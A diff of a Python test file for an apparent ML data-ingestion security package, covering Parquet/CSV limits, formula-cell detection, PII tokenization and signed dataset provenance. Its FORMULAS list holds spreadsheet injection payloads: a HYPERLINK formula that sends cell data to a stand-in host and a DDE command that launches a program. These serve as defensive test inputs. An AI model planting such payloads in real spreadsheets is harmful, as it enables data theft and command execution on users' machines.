@@ -16,7 +16,7 @@ import pyarrow.parquet as pq
 import pytest
 import yaml
 
-from mlsec.config import contract_path, sample_dataset
+from mlsec.config import contract_path
 from mlsec.digest import sha256_bytes, sha256_file
 from mlsec.gates.engine import InProcessEngine
 from mlsec.gates.gate import evaluate
@@ -27,22 +27,11 @@ from mlsec.sign import keys
 from mlsec.sign import stage as signing
 from mlsec.sign.attestation import Materials
 
-TEXT = {c: str for c in ("name", "email", "ssn", "phone", "zip", "gender")}
 KEY = "k" * 40  # a stand-in tokenization key (>= 32 bytes)
 FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1)", "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3", "\t=1+1"]
 
 
-@pytest.fixture(autouse=True)
-def _env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    for var in ("MLSEC_DATA_SOURCE_PREFIX", "MLSEC_DEPLOY_TARGET", "MLSEC_PII_TOKEN_KEY", "MLSEC_PII_TOKEN_KEY_FILE"):
-        monkeypatch.delenv(var, raising=False)
-    monkeypatch.setenv("MLSEC_DATA_DIRS", str(tmp_path / "in"))
-    (tmp_path / "in").mkdir()
-
-
-@pytest.fixture(scope="module")
-def sample() -> pd.DataFrame:
-    return pd.read_csv(sample_dataset(), dtype=TEXT)
+pytestmark = pytest.mark.usefixtures("data_dir")
 
 
 def _contract(tmp_path: Path, *, source: dict[str, Any] | None = None, note: bool = False,
@@ -73,10 +62,10 @@ def _csv(tmp_path: Path, df: pd.DataFrame, name: str = "input.csv") -> Path:
 
 
 # -- Parquet -------------------------------------------------------------------------------------------
-def test_a_parquet_source_yields_the_same_dataset_as_its_csv(tmp_path: Path, sample: pd.DataFrame,
+def test_a_parquet_source_yields_the_same_dataset_as_its_csv(tmp_path: Path, sample_frame: pd.DataFrame,
                                                              engine: InProcessEngine) -> None:
     from_csv = stage.run("", contract_path(), tmp_path / "a")
-    from_parquet = stage.run(str(_parquet(tmp_path, sample)), contract_path(), tmp_path / "b")
+    from_parquet = stage.run(str(_parquet(tmp_path, sample_frame)), contract_path(), tmp_path / "b")
     ev = from_parquet.evidence
     assert ev.errors == [] and ev.provenance.format == "parquet" and from_csv.evidence.provenance.format == "csv"
     assert ev.transformations[0].step == "parse" and ev.transformations[0].detail == "parquet"
@@ -87,13 +76,13 @@ def test_a_parquet_source_yields_the_same_dataset_as_its_csv(tmp_path: Path, sam
     assert evaluate("data", ev, environment="dev", engine=engine).allow
 
 
-def test_a_csv_named_parquet_and_a_disallowed_format_are_refused(tmp_path: Path, sample: pd.DataFrame) -> None:
+def test_a_csv_named_parquet_and_a_disallowed_format_are_refused(tmp_path: Path, sample_frame: pd.DataFrame) -> None:
     fake = tmp_path / "in" / "fake.parquet"
-    fake.write_text(sample.to_csv(index=False))
+    fake.write_text(sample_frame.to_csv(index=False))
     (err,) = stage.run(str(fake), contract_path(), tmp_path / "w").evidence.errors
     assert err.code == "not_parquet" and "magic bytes PAR1" in err.message
     csv_only = _contract(tmp_path, source={"formats": ["csv"]})
-    (err,) = stage.run(str(_parquet(tmp_path, sample)), csv_only, tmp_path / "w").evidence.errors
+    (err,) = stage.run(str(_parquet(tmp_path, sample_frame)), csv_only, tmp_path / "w").evidence.errors
     assert err.code == "format_not_allowed" and "allows only csv" in err.message
 
 
@@ -113,8 +102,8 @@ def test_a_parquet_bomb_is_refused_before_it_is_expanded(dictionary: bool, why: 
 ])
 @pytest.mark.parametrize("fmt", ["csv", "parquet"])
 def test_contract_limits_bound_the_source(limit: str, value: int, code: str, fmt: str, tmp_path: Path,
-                                          sample: pd.DataFrame) -> None:
-    df = sample.head(1000)  # 14 columns, 1000 rows: one over each limit but the byte count
+                                          sample_frame: pd.DataFrame) -> None:
+    df = sample_frame.head(1000)  # 14 columns, 1000 rows: one over each limit but the byte count
     path = _csv(tmp_path, df) if fmt == "csv" else _parquet(tmp_path, df)
     (err,) = stage.run(str(path), _contract(tmp_path, source={limit: value}), tmp_path / "w").evidence.errors
     assert err.code == code and f"source.{limit})" in err.message, err.message
@@ -134,14 +123,14 @@ def test_the_byte_limit_is_applied_before_reading(tmp_path: Path, monkeypatch: p
 
 
 # -- formula cells --------------------------------------------------------------------------------------
-def _with_formulas(sample: pd.DataFrame) -> pd.DataFrame:
-    notes = (FORMULAS + ["-3.5", "+7", "1e-3", "plain text", "a=b"] * len(sample))[: len(sample)]
+def _with_formulas(sample_frame: pd.DataFrame) -> pd.DataFrame:
+    notes = (FORMULAS + ["-3.5", "+7", "1e-3", "plain text", "a=b"] * len(sample_frame))[: len(sample_frame)]
     # The dropped phone column's "+1 ..." and negative incomes in a numeric column are not formula cells.
-    return sample.assign(note=notes, phone="+1 212 555 0143")
+    return sample_frame.assign(note=notes, phone="+1 212 555 0143")
 
 
-def test_formula_cells_are_denied_by_default(tmp_path: Path, sample: pd.DataFrame, engine: InProcessEngine) -> None:
-    src = _csv(tmp_path, _with_formulas(sample))
+def test_formula_cells_are_denied_by_default(tmp_path: Path, sample_frame: pd.DataFrame, engine: InProcessEngine) -> None:
+    src = _csv(tmp_path, _with_formulas(sample_frame))
     result = stage.run(str(src), _contract(tmp_path, note=True), tmp_path / "w")
     decision = evaluate("data", result.evidence, environment="dev", engine=engine)
     assert result.dataset is None and not decision.allow
@@ -151,9 +140,9 @@ def test_formula_cells_are_denied_by_default(tmp_path: Path, sample: pd.DataFram
     assert "HYPERLINK" not in result.evidence.model_dump_json()  # counted, never echoed
 
 
-def test_formula_cells_are_neutralised_when_the_contract_says_so(tmp_path: Path, sample: pd.DataFrame,
+def test_formula_cells_are_neutralised_when_the_contract_says_so(tmp_path: Path, sample_frame: pd.DataFrame,
                                                                  engine: InProcessEngine) -> None:
-    df = _with_formulas(sample)
+    df = _with_formulas(sample_frame)
     contract = _contract(tmp_path, note=True, source={"formula_cells": "neutralise"})
     result = stage.run(str(_csv(tmp_path, df)), contract, tmp_path / "w")
     assert result.dataset is not None and evaluate("data", result.evidence, environment="dev", engine=engine).allow
@@ -169,37 +158,37 @@ def test_negative_numbers_are_not_formulas() -> None:
 
 
 # -- tokenized PII -------------------------------------------------------------------------------------
-def test_a_tokenized_column_keeps_joins_and_loses_the_value(tmp_path: Path, sample: pd.DataFrame,
+def test_a_tokenized_column_keeps_joins_and_loses_the_value(tmp_path: Path, sample_frame: pd.DataFrame,
                                                             monkeypatch: pytest.MonkeyPatch,
                                                             caplog: pytest.LogCaptureFixture,
                                                             engine: InProcessEngine) -> None:
     caplog.set_level(logging.DEBUG)
     monkeypatch.setenv("MLSEC_PII_TOKEN_KEY", KEY)
     contract = _contract(tmp_path, tokenize=True)
-    first = stage.run(str(_csv(tmp_path, sample)), contract, tmp_path / "a")
+    first = stage.run(str(_csv(tmp_path, sample_frame)), contract, tmp_path / "a")
     assert first.dataset is not None and evaluate("data", first.evidence, environment="dev", engine=engine).allow
     out = pd.read_csv(first.dataset)
     assert out["email"].str.fullmatch(r"tok_[a-p]{64}").all() and out["email"].is_unique
     # Another extract of the same customers, in another order: equal emails get equal tokens (a join).
-    again = stage.run(str(_csv(tmp_path, sample.iloc[::-1], "again.csv")), contract, tmp_path / "b")
+    again = stage.run(str(_csv(tmp_path, sample_frame.iloc[::-1], "again.csv")), contract, tmp_path / "b")
     assert again.dataset is not None
     joined = out.merge(pd.read_csv(again.dataset), on="email", suffixes=("", "_2"))
-    assert len(joined) == len(sample) and (joined["customer_id"] == joined["customer_id_2"]).all()
+    assert len(joined) == len(sample_frame) and (joined["customer_id"] == joined["customer_id_2"]).all()
     # Another key, other tokens; the raw values and the key appear nowhere.
     monkeypatch.setenv("MLSEC_PII_TOKEN_KEY", "z" * 40)
-    other = stage.run(str(_csv(tmp_path, sample)), contract, tmp_path / "c")
+    other = stage.run(str(_csv(tmp_path, sample_frame)), contract, tmp_path / "c")
     assert other.dataset is not None and set(pd.read_csv(other.dataset)["email"]).isdisjoint(out["email"])
     written = first.dataset.read_text() + first.evidence.model_dump_json() + caplog.text
-    assert KEY not in written and not any(e in written for e in sample["email"])
+    assert KEY not in written and not any(e in written for e in sample_frame["email"])
     (step,) = [t for t in first.evidence.transformations if t.step == "tokenize"]
     assert step.column == "email" and step.detail == f"hmac-sha256, key id {Tokenizer(KEY.encode()).key_id}"
 
 
-def test_a_tokenized_column_left_raw_is_raw_pii(tmp_path: Path, sample: pd.DataFrame) -> None:
+def test_a_tokenized_column_left_raw_is_raw_pii(tmp_path: Path, sample_frame: pd.DataFrame) -> None:
     from mlsec.ingest.contract import load_contract
 
     contract = load_contract(_contract(tmp_path, tokenize=True))
-    kept = sample.drop(columns=["name", "ssn", "phone"])
+    kept = sample_frame.drop(columns=["name", "ssn", "phone"])
     assert raw_pii_remaining(kept, contract)  # the control: emails where tokens belong
     tokens = kept.assign(email=kept["email"].map(Tokenizer(KEY.encode()).token), zip="021XX")
     assert not raw_pii_remaining(tokens, contract)
@@ -237,13 +226,13 @@ def _stand_in_model(root: Path) -> Path:
     return model
 
 
-def _signed_run(tmp_path: Path, sample: pd.DataFrame, key_pair: keys.KeyPair, engine: InProcessEngine,
+def _signed_run(tmp_path: Path, sample_frame: pd.DataFrame, key_pair: keys.KeyPair, engine: InProcessEngine,
                 monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path, bytes]:
     """A Parquet source with formula cells and a tokenized column, through the ingest task and the data
     gate, then signed: (bundle, dataset, raw source bytes)."""
     monkeypatch.setenv("MLSEC_PII_TOKEN_KEY", KEY)
     contract = _contract(tmp_path, note=True, tokenize=True, source={"formula_cells": "neutralise"})
-    src = _parquet(tmp_path, _with_formulas(sample))
+    src = _parquet(tmp_path, _with_formulas(sample_frame))
     out = tmp_path / "out"
     task.run(str(src), str(contract), out / "dataset", out / "evidence.json")
     ev = DataEvidence.model_validate_json((out / "evidence.json").read_text())
@@ -266,22 +255,22 @@ def _dataset_provenance(bundle: Path, key_pair: keys.KeyPair) -> provenance.Data
 
 
 def test_the_dataset_provenance_is_signed_into_the_models_and_matches_the_bytes(
-        tmp_path: Path, sample: pd.DataFrame, key_pair: keys.KeyPair, engine: InProcessEngine,
+        tmp_path: Path, sample_frame: pd.DataFrame, key_pair: keys.KeyPair, engine: InProcessEngine,
         monkeypatch: pytest.MonkeyPatch) -> None:
-    bundle, dataset, raw = _signed_run(tmp_path, sample, key_pair, engine, monkeypatch)
+    bundle, dataset, raw = _signed_run(tmp_path, sample_frame, key_pair, engine, monkeypatch)
     dp = _dataset_provenance(bundle, key_pair)
     provenance.check_bytes(dp, dataset=dataset, raw=raw)  # both digests are the bytes'
     assert dp.dataset_digest == sha256_file(dataset) and dp.source_digest == sha256_bytes(raw)
     assert dp.source_format == "parquet" and dp.contract_digest == sha256_file(next(tmp_path.glob("contract-*")))
     assert {(t["step"], t["column"]) for t in dp.transformations} >= {("tokenize", "email"), ("neutralise_formulas", "note")}
     ev = signing.evidence(bundle, "m", key_pair.public_key)
-    assert ev.attestation.verified and ev.attestation.dataset_provenance_digest == dp.document_digest
+    assert ev.attestation.verified and ev.dataset_provenance.verified and ev.dataset_provenance.document_digest == dp.document_digest
 
 
 def test_tampering_with_the_dataset_or_its_provenance_fails_verification(
-        tmp_path: Path, sample: pd.DataFrame, key_pair: keys.KeyPair, other_key_pair: keys.KeyPair,
+        tmp_path: Path, sample_frame: pd.DataFrame, key_pair: keys.KeyPair, other_key_pair: keys.KeyPair,
         engine: InProcessEngine, monkeypatch: pytest.MonkeyPatch) -> None:
-    bundle, dataset, raw = _signed_run(tmp_path, sample, key_pair, engine, monkeypatch)
+    bundle, dataset, raw = _signed_run(tmp_path, sample_frame, key_pair, engine, monkeypatch)
     dp = _dataset_provenance(bundle, key_pair)
     # A flipped byte in the processed data, or in the raw source.
     data = bytearray(dataset.read_bytes())
@@ -324,11 +313,11 @@ def test_a_dataset_provenance_about_another_dataset_is_not_signed(tmp_path: Path
 
 
 def test_each_check_on_the_carried_dataset_provenance_holds(
-        tmp_path: Path, sample: pd.DataFrame, key_pair: keys.KeyPair, other_key_pair: keys.KeyPair,
+        tmp_path: Path, sample_frame: pd.DataFrame, key_pair: keys.KeyPair, other_key_pair: keys.KeyPair,
         engine: InProcessEngine, monkeypatch: pytest.MonkeyPatch) -> None:
     """Model provenances re-signed with the trusted key, each carrying a wrong dataset provenance: one signed
     by another key, one changed after it was named, one about another dataset."""
-    bundle, _, _ = _signed_run(tmp_path, sample, key_pair, engine, monkeypatch)
+    bundle, _, _ = _signed_run(tmp_path, sample_frame, key_pair, engine, monkeypatch)
     att = bundle / signing.ATTESTATION
     stmt = json.loads(base64.b64decode(json.loads(att.read_text())["payload"]))
     build = stmt["predicate"]["buildDefinition"]
